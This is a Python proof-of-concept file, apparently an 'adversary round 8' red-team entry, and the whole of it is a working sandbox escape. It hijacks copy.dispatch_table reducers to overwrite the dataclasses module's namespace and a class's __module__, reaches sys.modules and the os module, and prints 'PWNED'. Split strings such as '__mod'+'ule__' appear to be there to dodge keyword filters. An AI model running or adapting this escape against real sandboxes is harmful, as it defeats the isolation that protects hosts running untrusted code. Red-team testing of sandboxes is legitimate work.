# adversary round 8: 002: copy.dispatch_table reductor for a library object -> _reconstruct unchecked: y.__dict__.update() writes dataclasses' namespace (type=spy) and setattr(K,'__module__','sys'); dataclass(K) with annotation "modules" hands sys.modules to spy
import copy
import dataclasses
import json

real_type = type
seen = []


def spy(*args):
    if len(args) == 1:
        seen.append(args[0])
        return real_type(args[0])
    return real_type(*args)


class K:
    x: "modules"


def writer(target, dictstate, slotstate):
    def reductor(obj):
        return (lambda: target, (), (dictstate, slotstate))
    return reductor


enc = json.JSONEncoder()
copy.dispatch_table[json.JSONEncoder] = writer(dataclasses, {'type': spy}, None)
copy.copy(enc)
copy.dispatch_table[json.JSONEncoder] = writer(K, None, {'__mod' + 'ule__': 'sys'})
copy.copy(enc)
dataclasses.dataclass(init=False, repr=False, eq=False, match_args=False)(K)
mods = [s for s in seen if real_type(s) is dict and 'os' in s]
print(len(seen), len(mods))
osm = mods[0]['os']
print(osm, osm.getpid())
print('PWN' + 'ED')
